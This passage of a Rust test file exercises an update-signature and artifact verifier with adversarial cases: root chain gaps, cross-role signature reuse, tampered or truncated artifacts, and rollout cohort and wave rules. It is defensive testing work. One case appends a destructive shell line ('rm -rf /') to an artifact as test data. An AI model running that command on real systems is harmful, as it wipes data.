                verify_rotation(&fx.root, &next).into()
            },
        ),
        case(
            "root chain with a gap in the middle",
            Reject(Reason::RootVersion),
            || {
                let fx = Fx::new();
                let k = &fx.k;
                let v2 = Signed::sign(
                    fx.next_root_body(2),
                    &[&k.root1, &k.root2, &k.new_root1, &k.new_root2],
                )
                .unwrap();
                let v4 = Signed::sign(fx.next_root_body(4), &[&k.new_root1, &k.new_root2]).unwrap();
                follow_root_chain(&fx.root, &[v2, v4], fx.now, ExpirationEnforcement::Safe).into()
            },
        ),
        // --- domain separation: one key holds both the release and the channel role
        case(
            "key holding release and channel roles: genuine statement installs",
            install("1.5.0"),
            || {
                let fx = shared_key_fx();
                fx.decide()
            },
        ),
        case(
            "release signature pasted onto a channel statement (same key, both roles)",
            Reject(Reason::BadSignature),
            || {
                let mut fx = shared_key_fx();
                fx.stmt.signatures = vec![sig_of(&fx.k.release, &fx.release)];
                fx.decide()
            },
        ),
        case(
            "channel bytes signed under the release context (same key, both roles)",
            Reject(Reason::BadSignature),
            || {
                let mut fx = shared_key_fx();
                let mut message =
                    format!("{CONTEXT_PREFIX}{}\0", DocType::Release.as_str()).into_bytes();
                message.extend(fx.stmt.canonical_signed().unwrap());
                fx.stmt.signatures = vec![Signature {
                    keyid: fx.k.release.keyid(),
                    sig: raw_signature(RELEASE_SEED, &message),
                }];
                fx.decide()
            },
        ),
        case(
            "channel bytes signed without any context (same key, both roles)",
            Reject(Reason::BadSignature),
            || {
                let mut fx = shared_key_fx();
                let message = fx.stmt.canonical_signed().unwrap();
                fx.stmt.signatures = vec![Signature {
                    keyid: fx.k.release.keyid(),
                    sig: raw_signature(RELEASE_SEED, &message),
                }];
                fx.decide()
            },
        ),
        // --- artifacts
        case(
            "artifact with the right size but other content",
            Reject(Reason::HashMismatch),
            || {
                let mut bytes = payload(PLATFORM);
                bytes[50_000] ^= 0x01;
                let (_dir, path) = write_temp(&bytes);
                verify_file(&path, &artifact(PLATFORM)).into()
            },
        ),
        case(
            "artifact of another platform",
            Reject(Reason::HashMismatch),
            || {
                let mut bytes = payload(OTHER_PLATFORM);
                bytes.truncate(artifact(PLATFORM).size as usize);
                let (_dir, path) = write_temp(&bytes);
                verify_file(&path, &artifact(PLATFORM)).into()
            },
        ),
        case(
            "artifact truncated by one byte",
            Reject(Reason::SizeMismatch),
            || {
                let mut bytes = payload(PLATFORM);
                bytes.pop();
                let (_dir, path) = write_temp(&bytes);
                verify_file(&path, &artifact(PLATFORM)).into()
            },
        ),
        case("empty artifact file", Reject(Reason::SizeMismatch), || {
            let (_dir, path) = write_temp(&[]);
            verify_file(&path, &artifact(PLATFORM)).into()
        }),
        case(
            "artifact file with trailing data",
            Reject(Reason::SizeMismatch),
            || {
                let mut bytes = payload(PLATFORM);
                bytes.extend_from_slice(b"#!/bin/sh\nrm -rf /\n");
                let (_dir, path) = write_temp(&bytes);
                verify_file(&path, &artifact(PLATFORM)).into()
            },
        ),
        case(
            "streamed artifact with trailing data is cut by update(), before finish()",
            Reject(Reason::SizeMismatch),
            || {
                let mut stream = payload(PLATFORM);
                stream.extend(std::iter::repeat_n(0u8, 1 << 20));
                let mut verifier =
                    ArtifactVerifier::new(&artifact(PLATFORM), "https://updates.example/agent");
                for chunk in stream.chunks(4096) {
                    if let Err(error) = verifier.update(chunk) {
                        // Cut at the first chunk that crosses the signed size.
                        assert!(verifier.seen() <= artifact(PLATFORM).size);
                        assert!(verifier.seen() + 4096 > artifact(PLATFORM).size);
                        return Reject(error.reason());
                    }
                }
                Accepted
            },
        ),
        // --- legitimate non-installs and overrides
        case(
            "halted channel does nothing",
            Outcome::Idle(Idle::Halted),
            || Fx::new().with_stmt(|s| s.halted = true).decide(),
        ),
        case(
            "0 % rollout: not in cohort",
            Outcome::Idle(Idle::NotInCohort { percent: 0 }),
            || Fx::new().with_stmt(|s| s.rollout.percent = 0).decide(),
        ),
        case(
            "quarantined version is not retried",
            Outcome::Idle(Idle::Quarantined(ver("1.5.0"))),
            || {
                let mut fx = Fx::new();
                fx.local.quarantined.insert(ver("1.5.0"));
                fx.decide()
            },
        ),
        case(
            "already running the release",
            Outcome::Idle(Idle::UpToDate),
            || {
                let mut fx = Fx::new();
                fx.local.current_version = ver("1.5.0");
                fx.decide()
            },
        ),
        case("ignore_cohort installs at 0 %", install("1.5.0"), || {
            let mut fx = Fx::new().with_stmt(|s| s.rollout.percent = 0);
            fx.ignore_cohort = true;
            fx.decide()
        }),
        case(
            "a worker below the signed minimum installs at 0 %",
            install("1.5.0"),
            || {
                Fx::new()
                    .with_stmt(|s| {
                        s.rollout.percent = 0;
                        s.minimum_version = ver("1.4.1");
                    })
                    .decide()
            },
        ),
        case(
            "a worker at the signed minimum waits for its cohort",
            Outcome::Idle(Idle::NotInCohort { percent: 0 }),
            || {
                Fx::new()
                    .with_stmt(|s| {
                        s.rollout.percent = 0;
                        s.minimum_version = ver("1.4.0");
                    })
                    .decide()
            },
        ),
        case(
            "ignore_cohort never skips a signature",
            Reject(Reason::BadSignature),
            || {
                let mut fx = Fx::new().with_stmt(|s| s.rollout.percent = 0);
                fx.ignore_cohort = true;
                fx.release.signed.notes.push('!');
                fx.decide()
            },
        ),
        case(
            "a worker inside a 50 % cohort installs",
            install("1.5.0"),
            || {
                let mut fx = Fx::new().with_stmt(|s| s.rollout.percent = 50);
                fx.local.worker_id = (0..)
                    .map(|n| format!("worker-{n}"))
                    .find(|id| in_rollout(id, "stable-1.5.0", 50))
                    .unwrap();
                fx.decide()
            },
        ),
        case(
            "a worker outside a 50 % cohort waits",
            Outcome::Idle(Idle::NotInCohort { percent: 50 }),
            || {
                let mut fx = Fx::new().with_stmt(|s| s.rollout.percent = 50);
                fx.local.worker_id = (0..)
                    .map(|n| format!("worker-{n}"))
                    .find(|id| !in_rollout(id, "stable-1.5.0", 50))
                    .unwrap();
                fx.decide()
            },
        ),
        // --- waves: the signed statement names who may update now
        case(
            "a worker named by the signed wave installs at 0 %",
            install("1.5.0"),
            || {
                Fx::new()
                    .with_stmt(|s| {
                        s.rollout.percent = 0;
                        s.rollout.wave = Some(wave(1, 3, &["worker-0001", "worker-0042"]));
                    })
                    .decide()
            },
        ),
        case(
            "a worker outside the wave is told not yet",
            Outcome::Idle(Idle::NotInWave {
                wave: 1,
                of: 3,
                percent: 0,
            }),
            || {
                Fx::new()
                    .with_stmt(|s| {
                        s.rollout.percent = 0;
                        s.rollout.wave = Some(wave(1, 3, &["worker-0001", "worker-0043"]));
                    })
                    .decide()
            },
        ),
        case(
            "a wave added to a statement after signing is refused",
            Reject(Reason::BadSignature),
            || {
                let mut fx = Fx::new().with_stmt(|s| s.rollout.percent = 0);
                fx.stmt.signed.rollout.wave = Some(wave(1, 1, &["worker-0042"]));
                fx.decide()
            },
        ),
        case(
            "an unsorted wave list is malformed",
            Reject(Reason::Malformed),
            || {
                Fx::new()
                    .with_stmt(|s| s.rollout.wave = Some(wave(1, 2, &["worker-b", "worker-a"])))
                    .decide()
            },
        ),
        case("wave 0 is malformed", Reject(Reason::Malformed), || {
            Fx::new()
                .with_stmt(|s| s.rollout.wave = Some(wave(0, 2, &[])))
                .decide()
        }),
    ]
}

/// A signed wave naming `workers`.
fn wave(number: u32, of: u32, workers: &[&str]) -> manifests::Wave {
    manifests::Wave {
        number,
        of,
        workers: workers.iter().map(|w| (*w).to_owned()).collect(),
        extra: BTreeMap::new(),
    }
}

impl Fx {
    /// A genuine statement like the fixture's, edited and signed by the channel key.
    fn stmt_with(&self, edit: impl FnOnce(&mut ChannelStatement)) -> Signed<ChannelStatement> {
        let mut body = self.stmt.signed.clone();
        edit(&mut body);
        Signed::sign(body, &[&self.k.channel]).unwrap()
    }
}

/// A fixture whose root gives the release key the channel role too (statement re-signed by it).
fn shared_key_fx() -> Fx {
    let mut fx = Fx::new();
    fx.root = root_doc(
        1,
        &[&fx.k.root1, &fx.k.root2, &fx.k.root3],
        2,
        &fx.k.release,
        &fx.k.release,
        ts("2030-01-01T00:00:00Z"),
    );
    fx.stmt = Signed::sign(fx.stmt.signed.clone(), &[&fx.k.release]).unwrap();
    fx
}

#[test]
fn adversarial_table() {
    let cases = cases();
    assert!(cases.len() >= 24, "only {} cases", cases.len());
    let names: BTreeSet<&str> = cases.iter().map(|c| c.name).collect();
    assert_eq!(names.len(), cases.len(), "case names must be unique");

    let mut failures = Vec::new();
    for case in &cases {
        let got = (case.run)();
        if got != case.expect {
            failures.push(format!(
                "  {}: expected {}, got {}",
                case.name, case.expect, got
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} adversarial cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// The table exercises every rejection reason a verification entry point can produce (all but
/// the file-system ones, `key_permissions`, `key_encrypted` and `io`).
#[test]
fn table_covers_every_verification_reason() {
    let covered: BTreeSet<Reason> = cases()
        .iter()
        .filter_map(|c| match c.expect {
            Reject(reason) => Some(reason),
            _ => None,
        })
        .collect();
    let missing: Vec<&str> = Reason::ALL
        .iter()
        .filter(|r| {
            !matches!(
                r,
                Reason::KeyPermissions | Reason::KeyEncrypted | Reason::Io
            )
        })
        .filter(|r| !covered.contains(r))
        .map(|r| r.as_str())
        .collect();
    assert!(missing.is_empty(), "no adversarial case for: {missing:?}");
}

/// Rejections are stable labels: the metric names dashboards key on.
#[test]
fn reasons_used_by_the_table_have_their_contract_labels() {
    let expected = [
        (Reason::BadSignature, "bad_signature"),
        (Reason::Threshold, "threshold"),
        (Reason::Expired, "expired"),
        (Reason::ReplayedSerial, "replayed_serial"),
        (Reason::Downgrade, "downgrade"),
        (Reason::WrongPlatform, "wrong_platform"),
        (Reason::WrongProduct, "wrong_product"),
        (Reason::HashMismatch, "hash_mismatch"),
        (Reason::SizeMismatch, "size_mismatch"),
        (Reason::NeedsHop, "needs_hop"),
        (Reason::Unsigned, "unsigned"),
        (Reason::DuplicateKeyid, "duplicate_keyid"),
        (Reason::UnknownScheme, "unknown_scheme"),
        (Reason::Malformed, "malformed"),
        (Reason::InvalidRoot, "invalid_root"),
        (Reason::RootVersion, "root_version"),
        (Reason::WrongChannel, "wrong_channel"),
        (Reason::ManifestMismatch, "manifest_mismatch"),
        (Reason::WrongType, "wrong_type"),
    ];
    for (reason, label) in expected {
        assert_eq!(reason.as_str(), label);
        assert_eq!(reason.to_string(), label);
    }
}
